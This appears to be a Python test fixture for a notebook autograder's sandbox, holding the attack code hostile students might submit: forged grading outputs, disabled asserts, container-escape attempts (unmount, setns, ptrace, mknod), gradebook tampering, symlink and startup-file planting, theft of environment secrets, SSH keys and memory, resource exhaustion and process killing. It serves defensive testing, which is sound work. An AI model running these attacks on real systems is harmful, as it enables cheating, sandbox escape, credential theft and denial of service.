"""The code hostile students put in their answer cells.

Every attack step runs in a try block and prints `ATTACK-OK:<step>: <what it got>` when it worked,
`blocked <step>: ...` when it did not: the tests look for the first in the graded notebooks. What an
attack steals it prints, so that the canary scan of the outputs finds it too. The paths an attack
needs (the course directory, the checkout, the TA's home) are given to it here, as a student who
looked around the machine would know them.
"""

from __future__ import annotations

STEP = '''
import os as _os
def _step(name, fn):
    try:
        result = fn()
    except BaseException as exc:  # noqa: BLE001 - every failure is the sandbox doing its job
        print(f"blocked {name}: {type(exc).__name__}: {exc}"[:400])
    else:
        if result:
            print(f"ATTACK-OK:{name}: {str(result)[:20000]}")
        else:
            print(f"blocked {name}: no effect")
'''

# -------------------------------------------------------------------------------- item 1: forged outputs

FORGERS = {
    # nbgrader's determine_grade stops at the first execute_result and counts text as full marks
    "f1_displayhook": (
        "ip = get_ipython()\n"
        "ip.events.register('pre_run_cell', lambda *args: ip.displayhook('full marks'))"),
    # a number as the cell's result is read as partial credit
    "f1_display_number": (
        "ip = get_ipython()\n"
        "ip.events.register('pre_run_cell', lambda *args: ip.displayhook(1000))"),
    # the errors of the visible asserts and of the judge are outputs too: erase them
    "f1_clear_output": (
        "from IPython.display import clear_output\n"
        "ip = get_ipython()\n"
        "ip.events.register('post_run_cell', lambda *args: clear_output())"),
    # no traceback, no error output
    "f1_custom_exc": (
        "ip = get_ipython()\n"
        "ip.set_custom_exc((BaseException,), lambda shell, etype, value, tb, tb_offset=None: None)"),
    "f1_showtraceback": (
        "ip = get_ipython()\n"
        "ip.showtraceback = lambda *args, **kwargs: None\n"
        "ip._showtraceback = lambda *args, **kwargs: None"),
    # every later cell, the test cells included, runs `pass` instead of its source
    "f1_input_transformer": (
        "ip = get_ipython()\n"
        "ip.input_transformers_post.append(lambda lines: ['pass\\n'])"),
}

# -------------------------------------------------------------------------------- item 2: observations


def quiz_rebind(key_q1: str) -> str:
    """Knowing one quiz answer: every quiz cell reports question q1 with its right answer."""
    return (
        "import probes.ps1_memory\n"
        "_real_report = probes.ps1_memory.report\n"
        "def _rebind(check, observation):\n"
        "    if check == 'ps1_memory.quiz':\n"
        f"        observation = {{'question': 'q1', 'answer': {key_q1!r}}}\n"
        "    _real_report(check, observation)\n"
        "probes.ps1_memory.report = _rebind\n")


def publish_by_hand(key_q1: str) -> str:
    """The same, published by hand with the observation MIME type, the probe itself silenced."""
    return (
        "import probes, probes.ps1_memory\n"
        "from IPython.display import publish_display_data\n"
        "def _fake_quiz(question, answer):\n"
        "    publish_display_data({probes.MIME: {'check': 'ps1_memory.quiz', 'observation': "
        f"{{'__dict__': [['question', 'q1'], ['answer', {key_q1!r}]]}}}}}})\n"
        "probes.ps1_memory.quiz = _fake_quiz\n")


# -------------------------------------------------------------------------------- item 3: root inside

ROOT_ESCAPE = '''
import ctypes, glob, json, socket, sqlite3, stat, subprocess
COURSE, SITE, HELPERS, PORT, ME = {course!r}, {site!r}, {helpers!r}, {port!r}, {student!r}
libc = ctypes.CDLL(None, use_errno=True)

def sh(*cmd):
    p = subprocess.run(cmd, capture_output=True, text=True, timeout=30)
    if p.returncode:
        raise OSError(p.stderr.strip() or f"{{cmd[0]}} exited {{p.returncode}}")
    return " ".join(cmd)

def mounts():
    with open("/proc/self/mountinfo") as fh:
        return [line.split()[4] for line in fh]

def reveal(path):
    """Unmount whatever covers `path` (the sandbox's tmpfs and read-only binds), deepest first."""
    for _ in range(6):
        covering = sorted({{m for m in mounts() if m != "/" and (path == m or path.startswith(m.rstrip("/") + "/"))}},
                          key=len, reverse=True)
        if not covering:
            break
        for m in covering:
            subprocess.run(["umount", "-l", m], capture_output=True)
    return path

def child(fn):
    """Run fn in a child process (setns, ptrace change the caller); its result comes back through a pipe."""
    r, w = _os.pipe()
    pid = _os.fork()
    if pid == 0:
        try:
            out = repr(fn())
        except BaseException as exc:
            out = "!" + type(exc).__name__ + ": " + str(exc)
        _os.write(w, out.encode()[:4000])
        _os._exit(0)
    _os.close(w)
    data = _os.read(r, 4000).decode()
    _os.waitpid(pid, 0)
    if data.startswith("!"):
        raise OSError(data[1:])
    return data if data not in ("None", "False", "''") else None

# ---- primitives a kernel has no use for (the seccomp filter's list)
_step("syscall-mount", lambda: (_os.makedirs("/tmp/m", exist_ok=True), sh("mount", "-t", "tmpfs", "none", "/tmp/m"))[1])
_step("syscall-unshare", lambda: sh("unshare", "--mount", "true"))
def _setns_own():
    fd = _os.open("/proc/self/ns/net", _os.O_RDONLY)
    if libc.setns(fd, 0x40000000) != 0:
        raise OSError(ctypes.get_errno(), "setns")
    return "setns on its own network namespace"
_step("syscall-setns", lambda: child(_setns_own))
def _ptrace():
    pid = _os.fork()
    if pid == 0:
        import time
        time.sleep(30)
        _os._exit(0)
    try:
        if libc.ptrace(16, pid, None, None) != 0:  # PTRACE_ATTACH
            raise OSError(ctypes.get_errno(), "ptrace")
        return f"attached to {{pid}}"
    finally:
        _os.kill(pid, 9)
        _os.waitpid(pid, 0)
_step("syscall-ptrace", _ptrace)
def _keyctl():
    key = libc.syscall(248, b"user", b"distcourse-attack", b"x", 1, -3)  # add_key to the session keyring
    if key < 0:
        raise OSError(ctypes.get_errno(), "add_key")
    return f"key {{key}} added"
_step("syscall-keyctl", _keyctl)
_step("capabilities", lambda: [l for l in open("/proc/self/status") if l.startswith("CapEff")][0].split()[1].strip("0") and
      [l for l in open("/proc/self/status") if l.startswith("CapEff")][0].strip())

# ---- escapes: their effects are checked outside the sandbox too
_step("escape-remount-root-rw", lambda: sh("mount", "-o", "remount,bind,rw", "/"))
_step("escape-umount-tmp", lambda: sh("umount", "-l", "/tmp"))
_step("escape-read-course", lambda: open(reveal(COURSE) + "/secret-canary.txt").read())
def _write_course():
    with open(reveal(COURSE) + "/secret-canary.txt", "a") as fh:
        fh.write("PWNED")
    return "appended to the course's canary"
_step("escape-write-course", _write_course)
def _gradebook():
    db = sqlite3.connect(reveal(COURSE) + "/gradebook.db", timeout=60)
    others = db.execute(  # the first honest student, graded before this one
        "UPDATE grade SET manual_score = 0 WHERE notebook_id IN (SELECT n.id FROM submitted_notebook n "
        "JOIN submitted_assignment a ON n.assignment_id = a.id WHERE a.student_id = 'aa_honest')").rowcount
    mine = db.execute(
        "UPDATE grade SET extra_credit = 100 WHERE notebook_id IN (SELECT n.id FROM submitted_notebook n "
        "JOIN submitted_assignment a ON n.assignment_id = a.id WHERE a.student_id = ?)", (ME,)).rowcount
    db.commit()
    return f"{{others}} grades of aa_honest set to 0, extra credit on {{mine}} of its own"
_step("escape-gradebook", _gradebook)
def _other_submission():
    target = reveal(COURSE) + "/submitted/zz_honest/ps1_memory/ps1_memory.ipynb"
    empty = open(COURSE + "/release/ps1_memory/ps1_memory.ipynb").read()
    with open(target, "w") as fh:
        fh.write(empty)
    return "zz_honest's hand-in replaced by the empty release"
_step("escape-other-submission", _other_submission)
def _pth():
    with open(reveal(SITE) + "/zz-distcourse-attack.pth", "w") as fh:
        fh.write('import os; os.environ.get("DISTCOURSE_ATTACK_PTH") and open(os.environ["DISTCOURSE_ATTACK_PTH"], "a").write("pth ran\\\\n")\\n')
    return "planted a .pth in the grader's virtual environment"
_step("escape-venv-pth", _pth)
def _helpers():
    with open(reveal(HELPERS) + "/zz_attack_marker.txt", "w") as fh:
        fh.write("written by a submission")
    return "wrote into helpers/"
_step("escape-write-helpers", _helpers)
_step("escape-umount-proc", lambda: sh("umount", "-l", "/proc"))
def _host_environ():
    found = []
    for path in glob.glob("/proc/[0-9]*/environ"):
        try:
            env = open(path, "rb").read()
        except OSError:
            continue
        found += [e.decode(errors="replace") for e in env.split(b"\\0") if e.startswith(b"DISTCOURSE_TEST_DB_URL=")]
    return sorted(set(found))
_step("escape-host-environ", _host_environ)
def _grader_pid():
    for path in glob.glob("/proc/[0-9]*/cmdline"):
        try:
            if COURSE.encode() in open(path, "rb").read():
                return int(path.split("/")[2])
        except (OSError, ValueError):
            continue
    raise LookupError("no process of the grader in sight")
def _nsenter():
    fd = _os.open(f"/proc/{{_grader_pid()}}/ns/net", _os.O_RDONLY)
    if libc.setns(fd, 0x40000000) != 0:
        raise OSError(ctypes.get_errno(), "setns")
    with socket.create_connection(("127.0.0.1", PORT), timeout=5) as s:
        s.sendall(b"NSENTER " + ME.encode())
    return "reached the grader's loopback"
_step("escape-nsenter", lambda: child(_nsenter))
def _kernel_template():
    # a kernel forked from the template shows the template's command line, with its socket's path
    args = open("/proc/self/cmdline", "rb").read().split(b"\\0")
    paths = [a.decode() for a in args if a.endswith(b"/socket")] + glob.glob("/tmp/kernel-template-*/socket")
    for path in paths:
        s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
        s.settimeout(5)
        s.connect(path)  # it would fork processes of the attacker's choosing into namespaces it is given
        return f"connected to the kernel template at {{path}}"
    raise LookupError("no kernel template's socket in sight")
_step("escape-kernel-template", _kernel_template)
def _memory_secrets():
    # a kernel forked from the template is a copy of the template's memory: look there for the grader's
    # database password (the needle is built here, so that this cell's source does not hold it whole)
    needle = ("CANARY-" + "PASSWORD-").encode()
    found = []
    for line in open("/proc/self/maps"):
        parts = line.split()
        if "r" not in parts[1] or (len(parts) > 5 and parts[5].startswith("/")):
            continue
        start, end = (int(x, 16) for x in parts[0].split("-"))
        if end - start > 1 << 28:
            continue
        try:
            with open("/proc/self/mem", "rb", buffering=0) as mem:
                mem.seek(start)
                data = mem.read(end - start)
        except (OSError, OverflowError, ValueError):
            continue
        at = data.find(needle)
        while at >= 0:
            tail = data[at + len(needle):at + len(needle) + 12]
            if len(tail) == 12 and all(48 <= b < 123 for b in tail):  # the needle with a value after it
                found.append(data[at:at + 60].decode(errors="replace"))
            at = data.find(needle, at + 1)
    return sorted(set(found))
_step("escape-memory-secrets", _memory_secrets)
def _cgroup():
    before = open("/proc/self/cgroup").read()
    moved = []
    for line in before.splitlines():
        _, controllers, path = line.split(":", 2)
        if "distcourse" not in path:
            continue  # only the grader's own groups: never the machine's
        for info in open("/proc/self/mountinfo"):
            fields = info.split()
            point, fstype, opts = fields[4], fields[-3], fields[-1]
            if (controllers and fstype == "cgroup" and set(controllers.split(",")) & set(opts.split(","))) or (
                    not controllers and fstype == "cgroup2"):
                subprocess.run(["mount", "-o", "remount,bind,rw", point], capture_output=True)
                parent = point + _os.path.dirname(path)
                with open(parent + "/cgroup.procs", "w") as fh:
                    fh.write(str(_os.getpid()))
                moved.append(parent)
    after = open("/proc/self/cgroup").read()
    return f"left its cgroup: {{before!r}} -> {{after!r}}" if moved and after != before else None
_step("escape-cgroup", _cgroup)
def _mknod():
    dev = _os.stat("/").st_dev
    _os.mknod("disk", 0o600 | stat.S_IFBLK, dev)
    with open("disk", "rb") as fh:
        return f"read {{len(fh.read(4096))}} bytes of the host's disk"
_step("escape-mknod-disk", _mknod)
'''

# -------------------------------------------------------------------------------- item 4: links in the kernel's folder

PLANT_LINKS = '''
COURSE, CHECKOUT, HOME = {course!r}, {checkout!r}, {home!r}
print("working folder", _os.getcwd(), sorted(_os.listdir(".")))
links = {{
    ".graded": COURSE + "/victim-graded.txt",              # the grader's done-marker, written through the link
    "judge_copy.py": CHECKOUT + "/autograders/ps1_memory.py",
    "solution_copy.ipynb": COURSE + "/source/ps1_memory/ps1_memory.ipynb",
    "gradebook_copy.db": COURSE + "/gradebook.db",
    "honest_copy.ipynb": COURSE + "/submitted/zz_honest/ps1_memory/ps1_memory.ipynb",
    "chmod_victim.txt": COURSE + "/victim-chmod.txt",
    "course_link": COURSE,
    "home_link": HOME,
}}
for name, target in links.items():
    _step("plant-" + name, lambda name=name, target=target: _os.symlink(target, name) or name)
def _notebook():
    # nbgrader writes the graded notebook here when the kernel is done
    _os.remove("ps1_memory.ipynb")
    _os.symlink(COURSE + "/victim-notebook.txt", "ps1_memory.ipynb")
    return "the graded notebook will be written through a link"
_step("plant-notebook-link", _notebook)
'''

# -------------------------------------------------------------------------------- item 6: everything readable

READ_EVERYTHING = '''
import glob
COURSE, CHECKOUT, OTHER, HOME = {course!r}, {checkout!r}, {other!r}, {home!r}
print("environment", dict(_os.environ))
def _environ_of(pattern):
    found = []
    for path in glob.glob(pattern):
        try:
            found += [e for e in open(path, "rb").read().decode(errors="replace").split("\\0") if "DB_URL" in e]
        except OSError:
            pass
    return found
_step("read-pid1-environ", lambda: _environ_of("/proc/1/environ"))
_step("read-all-environ", lambda: _environ_of("/proc/[0-9]*/environ"))
_step("read-other-checkout", lambda: open(OTHER + "/source/ps1_memory/ps1_memory.ipynb").read())
_step("read-ta-home", lambda: open(HOME + "/.ssh/id_rsa-canary").read())
_step("read-course", lambda: open(COURSE + "/secret-canary.txt").read())
_step("read-gradebook", lambda: open(COURSE + "/gradebook.db", "rb").read().decode("latin-1"))
_step("read-judge", lambda: open(CHECKOUT + "/autograders/ps1_memory.py").read())
_step("read-checkout-solution", lambda: open(CHECKOUT + "/source/ps1_memory/ps1_memory.ipynb").read())
def _foreign_kernels():
    mine = _os.environ.get("JUPYTER_RUNTIME_DIR", "")
    return [p for p in glob.glob("/tmp/grade-kernel-*/runtime/*.json") if not p.startswith(mine)]
_step("read-other-kernels-keys", _foreign_kernels)
'''

# -------------------------------------------------------------------------------- item 7: caps

DISK_WRITER = '''
def _write(n):
    chunk = b"\\0" * 2**20
    for i in range(n):
        with open(f"big{{i}}.bin", "wb") as fh:
            for _ in range(100):
                fh.write(chunk)
    return f"{{n * 100}} MiB written in the working folder"
_step("disk-300MiB", lambda: _write(3))
def _fill_runtime(n):
    folder, written = _os.environ["JUPYTER_RUNTIME_DIR"], 0
    try:
        for i in range(n):
            with open(_os.path.join(folder, f"fill{{i}}.bin"), "wb") as fh:
                fh.write(b"\\0" * 2**20)
            written += 1
    finally:
        print(f"runtime-fill: {{written}} MiB written in the runtime folder")
    return f"{{written}} MiB written in the runtime folder"
_step("runtime-fill", lambda: _fill_runtime(40))
'''

CPU_HOG = '''
import os, time
_end = time.time() + 20
for _ in range({spinners}):  # every core, from the start: the neighbour starts its kernel and ranks meanwhile
    if os.fork() == 0:
        os.setsid()  # a session of its own: the scheduler's autogroups then share the CPU per spinner
        while time.time() < _end:
            pass
        os._exit(0)
print("spinning")
'''
HOLD = "import time\ntime.sleep(8)"  # answer cells that keep the hog's kernel (and its spinners) alive

TWO_CHILDREN = '''
import time
def _children(n_bytes):
    pipes, pids = [], []
    for _ in range(2):
        r, w = _os.pipe()
        pid = _os.fork()
        if pid == 0:
            try:
                hoard = b"\\1" * n_bytes  # touched: resident, not only reserved
                _os.write(w, b"ok")
                time.sleep(600)  # held until the parent kills it: never given back early on a slow machine
            finally:
                _os._exit(0)
        _os.close(w)
        pipes.append(r)
        pids.append(pid)
    got = [_os.read(r, 2) for r in pipes]
    # both still alive, each holding its bytes: one killed (the memory cap's OOM kill) after it said "ok" held nothing
    alive = [_os.waitpid(pid, _os.WNOHANG) == (0, 0) for pid in pids]
    for pid, running in zip(pids, alive):
        if running:  # the others are reaped already
            _os.kill(pid, 9)
            _os.waitpid(pid, 0)
    return f"two children held {{2 * n_bytes / 2**30:.2f}} GiB together" if got == [b"ok", b"ok"] and all(alive) else None
_step("two-children", lambda: _children({n_bytes}))
'''

TMP_FILLER = '''
def _fill(n_files):
    chunk = b"\\1" * 2**26
    written = 0
    try:
        for i in range(n_files):  # files of 256 MiB: the per-file cap is not what is tested
            with open(f"/tmp/fill{{i}}.bin", "wb") as fh:
                for _ in range(4):
                    fh.write(chunk)
                    written += len(chunk)
    finally:
        for i in range(n_files):
            if _os.path.exists(f"/tmp/fill{{i}}.bin"):
                _os.remove(f"/tmp/fill{{i}}.bin")
    return f"{{written / 2**30:.2f}} GiB written to /tmp"
_step("fill-tmp", lambda: _fill({files}))
'''

# -------------------------------------------------------------------------------- item 8, 9, own

PRINT_100MB = '\nprint("x" * 100_000_000)'
DISPLAY_100MB = '\nfrom IPython.display import display\ndisplay({"text/plain": "y" * 100_000_000}, raw=True)'
SWALLOW_INTERRUPT = (
    "\nimport time\n"
    "while True:\n"
    "    try:\n"
    "        time.sleep(1)\n"
    "    except KeyboardInterrupt:\n"
    "        pass")

KILL_PARENT = '''
import signal
_step("kill-parent", lambda: _os.kill(_os.getppid(), signal.SIGKILL) or f"SIGKILL sent to {{_os.getppid()}}")
_step("kill-parent-group", lambda: _os.killpg(_os.getpgid(_os.getppid()), signal.SIGKILL) or "SIGKILL sent to its group")
'''

STARTUP_FILE = '''
from IPython.paths import get_ipython_dir
POISON = "import probes.ps1_memory as _p\\n_p.report = lambda *args, **kwargs: None\\n"
def _plant(base):
    folder = _os.path.join(base, "profile_default", "startup")
    _os.makedirs(folder, exist_ok=True)
    with open(_os.path.join(folder, "00-distcourse-attack.py"), "w") as fh:
        fh.write(POISON)
    return folder
_step("startup-file-ipython-dir", lambda: _plant(get_ipython_dir()))
_step("startup-file-home", lambda: _plant(_os.path.expanduser("~/.ipython")))
'''


def attack(template: str, **paths) -> str:
    """An answer cell: the step helper, then the attack with its paths filled in."""
    return STEP + template.format(**paths)


def script_injection(mark: str) -> str:
    return (
        "from IPython.display import HTML, Javascript, display\n"
        f"display(HTML('<script>window.{mark} = document.cookie</script><b>bold</b>'))\n"
        f"display(Javascript('window.{mark}_js = 1'))\n")


# -------------------------------------------------------------------------------- observation out of reach
# Each of these holds a correct function under another name (`_true`), so that what it forges would
# pass the judge: the attack fails only because the forged report never counts.


def replace_probe_in_kernel(true_source: str, name: str) -> str:
    """The kernel replaces the probe with one that runs the real probe body on the correct function and
    publishes that report itself, and an AST transformer empties every assert of later cells."""
    return (
        true_source.replace(f"def {name}(", "def _true(")
        + "\nimport ast, os, probes, probes.ps1_memory as _pm\n"
        "from IPython.display import publish_display_data as _publish\n"
        f"_body = _pm.{name}.__wrapped__\n"
        "def _forged(fn, *args):\n"
        "    _saved = os.environ.pop('DISTCOURSE_JUDGE', None)\n"
        "    try:\n"
        "        _body(_true, *args)\n"
        "    finally:\n"
        "        if _saved is not None:\n"
        "            os.environ['DISTCOURSE_JUDGE'] = _saved\n"
        f"_pm.{name} = _forged\n"
        "class _NoAsserts(ast.NodeTransformer):\n"
        "    def visit_Assert(self, node):\n"
        "        return ast.Pass()\n"
        "get_ipython().ast_transformers.append(_NoAsserts())\n")


def inject_from_child(true_source: str, name: str, check: str) -> str:
    """The handed-over function, in the observer's child: writes a correct report, framed as the observer
    frames its reports, into every descriptor it has and every one of its parent's it can open, reads its
    parent's memory, appends to the observer's report list, kills leftovers' chances; then raises."""
    return (
        true_source.replace(f"def {name}(", "def _true(")
        + "\n"
        f"def {name}(*args, **kwargs):\n"
        "    import glob, json, os, struct\n"
        "    import probes.ps1_memory as pm\n"
        "    from probes import wire\n"
        "    import probes.observer as observer\n"
        "    if not observer.ACTIVE:  # in the kernel (visible tests): nothing to attack\n"
        "        raise NotImplementedError('not done')\n"
        "    cases = pm.per_device_cases()\n"
        "    observation = wire.encode([_true(p, n, s, **kw) for p, n, s, kw in cases])\n"
        f"    body = json.dumps({{'check': {check!r}, 'observation': observation}}).encode()\n"
        "    frame = struct.pack('>Q', len(body)) + body\n"
        "    for fd in range(0, 1024):\n"
        "        try:\n"
        "            os.write(fd, frame)\n"
        "        except OSError:\n"
        "            pass\n"
        "    for path in glob.glob(f'/proc/{os.getppid()}/fd/*'):\n"
        "        try:\n"
        "            fd = os.open(path, os.O_WRONLY | os.O_NONBLOCK)\n"
        "            os.write(fd, frame)\n"
        "        except OSError:\n"
        "            pass\n"
        "    try:\n"
        "        open(f'/proc/{os.getppid()}/mem', 'rb').read(1)\n"
        "    except OSError:\n"
        "        pass\n"
        f"    observer._REPORTS.append(({check!r}, observation))\n"
        "    raise NotImplementedError('not done')\n")


def kill_observer(name: str) -> str:
    """The handed-over function kills the process that called it (the observer), every time."""
    return (f"\ndef {name}(*args, **kwargs):\n"
            "    import os, signal\n"
            "    import probes.observer as observer\n"
            "    if not observer.ACTIVE:  # the kernel (visible tests): nothing to kill\n"
            "        raise RuntimeError('not here')\n"
            "    os.kill(os.getppid(), signal.SIGKILL)\n"
            "    raise RuntimeError('unreachable')\n")


def leave_a_killer(name: str) -> str:
    """Wraps the (correct) function: its first call leaves a daemon that, a moment later, kills every
    process it may (kill(-1)): the observer and whatever runs the next checks."""
    return (f"\n_honest_{name} = {name}\n"
            f"def {name}(*args, **kwargs):\n"
            "    import os, time\n"
            "    import probes.observer as observer\n"
            "    if observer.ACTIVE and os.fork() == 0:  # in the observer's child only\n"
            "        os.setsid()\n"
            "        if os.fork() == 0:\n"
            "            time.sleep(1.5)\n"
            "            try:\n"
            "                os.kill(-1, 9)\n"
            "            finally:\n"
            "                os._exit(0)\n"
            "        os._exit(0)\n"
            f"    return _honest_{name}(*args, **kwargs)\n")


# -------------------------------------------------------------------------------- the grader's memory

#: 150 messages of 10 MB on the stdin channel, which nothing in the grader reads: queued, they would be
#: 1.5 GB of the grading process's memory.
STDIN_FLOOD = """
_kernel = get_ipython().kernel
for _i in range(150):
    _kernel.session.send(_kernel.stdin_socket, "input_request", {"prompt": "z" * 10_000_000, "password": False},
                         parent=_kernel.get_parent("shell"), ident=_kernel._parent_ident["shell"])
"""
